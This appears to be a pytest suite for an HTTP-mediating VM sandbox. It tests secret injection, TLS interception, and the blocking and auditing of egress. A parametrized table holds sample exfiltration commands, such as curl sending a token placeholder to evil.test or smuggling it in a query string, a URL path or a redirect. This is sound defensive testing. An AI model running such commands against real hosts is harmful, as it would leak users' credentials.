"""HTTP(S) mediation with real clients in the guest: curl (HTTP/1.1 and HTTP/2), Python
urllib, git over smart HTTP, pip against a PEP 503 index, a TLS upstream signed by a test CA,
secrets that only the host ever sees, and exfiltration attempts that must be blocked and audited.

Upstream names (``*.test``) reach the loopback servers through the resolver the hooks carry; the
guest resolves the same names to synthetic addresses, so nothing here leaves the machine.
"""

from __future__ import annotations

import base64
import hashlib
import json
import secrets
import subprocess
import zipfile
from pathlib import Path

import anyio
import pytest

from gondolin import VM
from gondolin.http import Decision, Secret, create_http_hooks

from .netservers import loopback_resolver, make_pki, pattern_sha256, start_servers

pytestmark = [pytest.mark.anyio, pytest.mark.vm]

MiB = 1024 * 1024
INTERNAL_NAMES = ["api.test", "git.test", "pypi.test", "other.test", "untrusted.test"]
# Fake credential, fresh per run; it must never reach the guest, an event or a log.
REAL_TOKEN = "sk_test_" + secrets.token_hex(20)
WHEEL = "demo_pkg-1.0-py3-none-any.whl"


# -- fixtures: a git repository, a package index, TLS material, servers, one VM ----------------


def _git(*args: str, cwd: Path | None = None) -> str:
    env = {"PATH": "/usr/bin:/bin", "HOME": "/nonexistent", "GIT_CONFIG_NOSYSTEM": "1",
           "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.invalid",
           "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.invalid"}
    out = subprocess.run(["git", *args], cwd=cwd, env=env, check=True, capture_output=True, text=True)
    return out.stdout.strip()


def make_repo(root: Path) -> str:
    """A bare repository ``root/repo.git`` with two commits; returns the head commit."""
    work = root / "work"
    work.mkdir(parents=True)
    _git("init", "-q", "-b", "main", cwd=work)
    (work / "README").write_text("served over smart HTTP\n")
    _git("add", "README", cwd=work)
    _git("commit", "-q", "-m", "first", cwd=work)
    (work / "data.bin").write_bytes(bytes(range(256)) * 4096)
    _git("add", "data.bin", cwd=work)
    _git("commit", "-q", "-m", "second", cwd=work)
    _git("clone", "-q", "--bare", str(work), str(root / "repo.git"))
    return _git("rev-parse", "HEAD", cwd=work)


def _record_hash(data: bytes) -> str:
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


def make_index(root: Path) -> str:
    """A PEP 503 simple index with one pure-Python wheel; returns the wheel's sha256."""
    files = {
        "demo_pkg/__init__.py": b"VALUE = 42\n",
        "demo_pkg-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: demo-pkg\nVersion: 1.0\n",
        "demo_pkg-1.0.dist-info/WHEEL": b"Wheel-Version: 1.0\nGenerator: gondolin-tests\n"
                                        b"Root-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = "".join(f"{n},{_record_hash(d)},{len(d)}\n" for n, d in files.items())
    record += "demo_pkg-1.0.dist-info/RECORD,,\n"
    (root / "packages").mkdir(parents=True)
    wheel = root / "packages" / WHEEL
    with zipfile.ZipFile(wheel, "w") as zf:
        for name, data in files.items():
            zf.writestr(name, data)
        zf.writestr("demo_pkg-1.0.dist-info/RECORD", record)
    digest = hashlib.sha256(wheel.read_bytes()).hexdigest()
    (root / "simple" / "demo-pkg").mkdir(parents=True)
    (root / "simple" / "index.html").write_text('<html><body><a href="demo-pkg/">demo-pkg</a></body></html>\n')
    (root / "simple" / "demo-pkg" / "index.html").write_text(
        f'<html><body><a href="../../packages/{WHEEL}#sha256={digest}">{WHEEL}</a></body></html>\n')
    return digest


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    root = tmp_path_factory.mktemp("http-site")
    head = make_repo(root / "git")
    wheel_sha = make_index(root / "static")
    pki = make_pki(root / "pki", INTERNAL_NAMES)
    rogue = make_pki(root / "rogue", ["untrusted.test"], ca_name="Not trusted by the mediator")
    config = {"http": {}, "https": pki.server_spec(), "untrusted": rogue.server_spec(),
              "log": str(root / "requests.jsonl"), "git_root": str(root / "git"),
              "static_root": str(root / "static")}
    with start_servers(config) as servers:
        yield {"servers": servers, "head": head, "wheel_sha": wheel_sha, "ca_pem": pki.ca_pem,
               "H": servers.ports["http"], "S": servers.ports["https"], "U": servers.ports["untrusted"]}


@pytest.fixture(scope="module")
async def http_vm(site):
    hooks, env = create_http_hooks(
        allowed_hosts=["public.test"],  # allowed, but it resolves to loopback: internal, blocked
        allowed_internal_hosts=INTERNAL_NAMES,
        # https (the default scheme) on the test server's port, not the default 443.
        secrets={"API_TOKEN": Secret(REAL_TOKEN, hosts=[f"api.test:{site['S']}"])},
        resolver=loopback_resolver(),
        upstream_ca_pem=site["ca_pem"],
    )
    async with await VM.create(memory="512M", http_hooks=hooks, env=env) as machine:
        yield machine


async def sh(vm, command: str, **kw):
    r = await vm.exec(["/bin/bash", "-c", command], **kw)
    leaked = REAL_TOKEN in r.stdout + r.stderr
    assert not leaked, "the real secret value reached the guest"  # (never print it)
    return r


def events_for(vm, path: str):
    return [e for e in vm.network.events() if e.path == path]


def server_saw(site, path_prefix: str) -> list[dict]:
    return [e for e in site["servers"].log_entries() if e["path"].startswith(path_prefix)]


def carries(entry: dict, name: str, value: str) -> bool:
    """Did the upstream get header ``name: value``? (A bool, so a failure never prints a secret.)"""
    return [name, value] in [[n.lower(), v] for n, v in entry["headers"]]


# -- real clients ------------------------------------------------------------------------------


async def test_curl_over_plain_http(http_vm, site):
    n = 3 * MiB
    r = await sh(http_vm, f"curl -sS --fail http://api.test:{site['H']}/bytes/{n} | sha256sum")
    assert r.stdout.split()[0] == pattern_sha256(n), r.stderr
    (event,) = events_for(http_vm, f"/bytes/{n}")
    assert (event.scheme, event.host, event.status, event.decision) == ("http", "api.test", 200, Decision.ALLOWED)
    assert event.response_bytes == n


async def test_curl_over_https_is_intercepted_with_the_gondolin_ca(http_vm, site):
    n = 4 * MiB
    r = await sh(http_vm, f"curl -sS --fail --http1.1 -w '%{{http_version}}' -o /tmp/dl.bin "
                          f"https://api.test:{site['S']}/bytes/{n} && sha256sum /tmp/dl.bin && rm /tmp/dl.bin")
    assert r.stdout.startswith("1.1") and r.stdout[3:].split()[0] == pattern_sha256(n), r.stdout + r.stderr
    r = await sh(http_vm, f"echo | openssl s_client -connect api.test:{site['S']} -servername api.test 2>/dev/null"
                          " | openssl x509 -noout -issuer")
    assert "Gondolin" in r.stdout  # the guest talks to the mediator, never to the upstream
    (event,) = events_for(http_vm, f"/bytes/{n}")
    assert (event.scheme, event.protocol, event.status) == ("https", "HTTP/1.1", 200)


async def test_curl_http2_with_many_concurrent_streams(http_vm, site):
    url = f"https://api.test:{site['S']}/small"
    r = await sh(http_vm, f"curl -sS --http2 -w '%{{http_version}} %{{http_code}}' {url}")
    assert r.stdout == "ok\n2 200", r.stderr
    many = " ".join(f"-o /dev/null {url}?n={i}" for i in range(20))
    r = await sh(http_vm, f"curl -sS --http2 --parallel --parallel-max 20 -w '%{{http_version}} %{{http_code}}\\n' {many}")
    assert r.stdout.splitlines() == ["2 200"] * 20, r.stderr
    assert any(e.protocol == "HTTP/2" and e.path == "/small" for e in http_vm.network.events())


async def test_python_urllib(http_vm, site):
    code = ("import urllib.request as u, hashlib;"
            f"r = u.urlopen('https://api.test:{site['S']}/bytes/100000', timeout=60);"
            "print(r.status, hashlib.sha256(r.read()).hexdigest())")
    r = await sh(http_vm, f"python3 -c \"{code}\"")
    assert r.stdout.split() == ["200", pattern_sha256(100000)], r.stderr


async def test_git_clone_over_smart_https(http_vm, site):
    r = await sh(http_vm, f"git clone -q https://git.test:{site['S']}/git/repo.git /tmp/clone && "
                          "git -C /tmp/clone rev-parse HEAD && sha256sum < /tmp/clone/data.bin && "
                          "cat /tmp/clone/README; rm -rf /tmp/clone", timeout=120)
    head, digest, _, *readme = r.stdout.split()
    assert head == site["head"], r.stderr
    assert digest == hashlib.sha256(bytes(range(256)) * 4096).hexdigest()
    assert " ".join(readme) == "served over smart HTTP"
    seen = [e.path for e in http_vm.network.events() if e.host == "git.test"]
    assert "/git/repo.git/info/refs" in seen and "/git/repo.git/git-upload-pack" in seen


async def test_pip_download_from_a_local_index(http_vm, site):
    r = await sh(http_vm, "pip download --no-deps --no-cache-dir --disable-pip-version-check -q "
                          f"--index-url https://pypi.test:{site['S']}/simple/ -d /tmp/dl demo-pkg==1.0 && "
                          f"sha256sum /tmp/dl/{WHEEL}; rm -rf /tmp/dl", timeout=180)
    assert r.stdout.split()[0] == site["wheel_sha"], r.stdout + r.stderr


async def test_upstream_tls_is_verified(http_vm, site):
    r = await sh(http_vm, f"curl -sS -w '\\n%{{http_code}}' https://untrusted.test:{site['U']}/small")
    body, _, code = r.stdout.rpartition("\n")
    assert code == "502", r.stdout
    assert "untrusted.test" in body
    (event,) = [e for e in http_vm.network.events() if e.host == "untrusted.test"]
    assert event.decision is Decision.ERROR and event.status == 502


# -- secrets -----------------------------------------------------------------------------------


async def test_real_secret_reaches_its_host_and_the_guest_sees_a_placeholder(http_vm, site):
    r = await sh(http_vm, "echo $API_TOKEN")
    placeholder = r.stdout.strip()
    assert placeholder.startswith("GONDOLIN_SECRET_") and placeholder != REAL_TOKEN
    url = f"https://api.test:{site['S']}"
    r = await sh(http_vm, f"curl -sS --fail -H \"Authorization: Bearer $API_TOKEN\" {url}/headers/bearer && "
                          f"curl -sS --fail -u \"robot:$API_TOKEN\" {url}/headers/basic && "
                          f"curl -sS --fail -d \"token=$API_TOKEN\" {url}/headers/body")
    assert r.exit_code == 0, r.stderr
    (bearer,), (basic,), (body,) = (server_saw(site, f"/headers/{p}") for p in ("bearer", "basic", "body"))
    bearer_ok = carries(bearer, "authorization", f"Bearer {REAL_TOKEN}")
    basic_ok = carries(basic, "authorization", "Basic " + base64.b64encode(f"robot:{REAL_TOKEN}".encode()).decode())
    assert bearer_ok and basic_ok, "the upstream did not get the real value"
    assert body["body"] == f"token={placeholder}"  # bodies are never rewritten
    for path in ("/headers/bearer", "/headers/basic"):
        (event,) = events_for(http_vm, path)
        assert event.secrets == ("API_TOKEN",) and event.decision is Decision.ALLOWED


async def test_the_real_value_is_nowhere_in_the_guest(http_vm):
    r = await sh(http_vm, "for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do cat $f 2>/dev/null; echo; done")
    assert "GONDOLIN_SECRET_" in r.stdout
    leaked = REAL_TOKEN in r.stdout
    assert not leaked, "the real value is in a guest process's environment or command line"
    # The pattern travels on stdin: it never becomes a file, an argument or an environment value.
    r = await http_vm.exec(["/bin/sh", "-c", "grep -rlsF -f - /etc /run /root /home /tmp /var /opt /usr/local; "
                                             "echo rc=$?"], stdin=(REAL_TOKEN + "\n").encode())
    assert r.stdout.strip().splitlines()[-1] == "rc=1", r.stdout  # 1: no file matched


EXFILTRATION = {
    # name: (command, guest-visible reason fragment, host the blocked request was for)
    "placeholder-to-another-allowed-host": (
        'curl -sS -H "Authorization: Bearer $API_TOKEN" https://other.test:$S/headers/x1',
        "may not be sent to other.test", "other.test"),
    "placeholder-to-a-host-not-allowed": (
        'curl -sS -H "X-Key: $API_TOKEN" http://evil.test:$H/headers/x2',
        "not in allowed_hosts", "evil.test"),
    "placeholder-in-query-without-opt-in": (
        'curl -sS "https://api.test:$S/headers/x3?key=$API_TOKEN"',
        "replace_secrets_in_query", "api.test"),
    "placeholder-in-path": (
        'curl -sS "https://api.test:$S/headers/x4/$API_TOKEN"',
        "URL path", "api.test"),
    "synthetic-ip-of-an-unknown-name": (
        'ip=$(getent hosts evil.test | cut -d" " -f1); curl -sS "http://$ip:$H/headers/x5"',
        "not in allowed_hosts", None),
    "redirect-to-a-disallowed-host": (
        'curl -sS "https://api.test:$S/redirect?to=http://evil.test:$H/headers/x6"',
        "not in allowed_hosts", "evil.test"),
    "ip-literal-host-header": (
        'curl -sS -H "Host: 127.0.0.1:$H" "http://api.test:$H/headers/x7"',
        "not in allowed_hosts", "127.0.0.1"),
    "allowed-name-resolving-to-an-internal-address": (
        'curl -sS "http://public.test:$H/headers/x8"',
        "internal address", "public.test"),
}


@pytest.mark.parametrize("case", list(EXFILTRATION))
async def test_exfiltration_is_blocked_and_audited(http_vm, site, case):
    command, reason, host = EXFILTRATION[case]
    before = len(http_vm.network.events())
    r = await sh(http_vm, f"S={site['S']} H={site['H']}; {command} -w '\\n%{{http_code}}'")
    body, _, code = r.stdout.rpartition("\n")
    assert code == "403", r.stdout + r.stderr
    assert reason in body
    new = http_vm.network.events()[before:]
    blocked = [e for e in new if e.decision is Decision.BLOCKED]
    assert blocked and reason in blocked[-1].reason
    if host is not None:
        assert blocked[-1].host == host
    else:
        assert blocked[-1].host.startswith("198.19.")
    label = f"/headers/x{list(EXFILTRATION).index(case) + 1}"
    assert not server_saw(site, label), "a blocked request reached the upstream"


async def test_redirect_across_hosts_drops_the_credential(http_vm, site):
    target = f"https://other.test:{site['S']}/headers/after-redirect"
    r = await sh(http_vm, f"curl -sS --fail -H \"Authorization: Bearer $API_TOKEN\" "
                          f"\"https://api.test:{site['S']}/redirect?to={target}\"")
    assert json.loads(r.stdout)["names"] and "authorization" not in json.loads(r.stdout)["names"], r.stdout
    (seen,) = server_saw(site, "/headers/after-redirect")
    assert not any(n.lower() == "authorization" for n, _ in seen["headers"])


async def test_rotation_and_revocation_at_runtime(http_vm, site):
    store = http_vm.network.hooks.secrets
    rotated = "sk_test_rotated_" + secrets.token_hex(8)
    store.rotate("API_TOKEN", rotated)
    url = f"https://api.test:{site['S']}/headers"
    r = await sh(http_vm, f"curl -sS --fail -H \"Authorization: Bearer $API_TOKEN\" {url}/rotated")
    assert r.exit_code == 0, r.stderr
    (seen,) = server_saw(site, "/headers/rotated")
    rotated_ok = carries(seen, "authorization", f"Bearer {rotated}")
    assert rotated_ok, "the upstream did not get the rotated value"
    store.revoke("API_TOKEN")  # the last test here that uses the secret
    r = await sh(http_vm, f"curl -sS -w '\\n%{{http_code}}' -H \"Authorization: Bearer $API_TOKEN\" {url}/revoked")
    assert r.stdout.endswith("403") and "revoked" in r.stdout
    assert not server_saw(site, "/headers/revoked")


async def test_events_never_hold_a_secret_value(http_vm):
    text = repr(http_vm.network.events())
    leaked = REAL_TOKEN in text or "sk_test_rotated_" in text
    assert not leaked, "an audit event holds a secret value"
    assert "Decision.BLOCKED" in text


async def test_many_concurrent_requests_all_complete(http_vm, site):
    # One TLS context for all (urllib builds one per call, which costs ~1 s of TCG time each).
    code = f"""
import concurrent.futures as cf, http.client, ssl
ctx = ssl.create_default_context()
def get(i):
    conn = http.client.HTTPSConnection("api.test", {site['S']}, context=ctx, timeout=120)
    conn.request("GET", "/bytes/{64 * 1024}?c=%d" % i)
    resp = conn.getresponse()
    return resp.status, len(resp.read())
with cf.ThreadPoolExecutor(32) as ex:
    print(sorted(set(ex.map(get, range(64)))))
"""
    await http_vm.fs.write("/tmp/conc.py", code)
    r = await sh(http_vm, "python3 /tmp/conc.py", timeout=180)
    assert r.stdout.strip() == f"[(200, {64 * 1024})]", r.stderr
    assert len([e for e in http_vm.network.events() if e.path == f"/bytes/{64 * 1024}"]) == 64


async def test_cli_flags_and_refused_request_report():
    import os
    import sys

    env = {**os.environ, "CLI_FAKE_TOKEN": "tok_cli_" + secrets.token_hex(8)}
    script = ('echo "$TOK"; curl -s -o /dev/null -w "%{http_code}\\n" http://blocked.example/p?q=1; '
              'curl -s -o /dev/null -w "%{http_code}\\n" -H "Authorization: Bearer $TOK" http://allowed.example/')
    proc = await anyio.run_process(
        [sys.executable, "-m", "gondolin.cli", "exec", "--allow-host", "allowed.example",
         "--secret", "TOK=CLI_FAKE_TOKEN@api.example", "--", script], env=env, check=False)
    out, err = proc.stdout.decode(), proc.stderr.decode()
    assert proc.returncode == 0, err
    placeholder, first, second = out.split()
    leaked = env["CLI_FAKE_TOKEN"] in out + err
    assert placeholder.startswith("GONDOLIN_SECRET_") and not leaked
    assert (first, second) == ("403", "403")
    assert "gondolin: blocked GET http://blocked.example/p: egress to blocked.example is denied" in err
    assert "gondolin: blocked GET http://allowed.example/: secret TOK may not be sent to allowed.example" in err
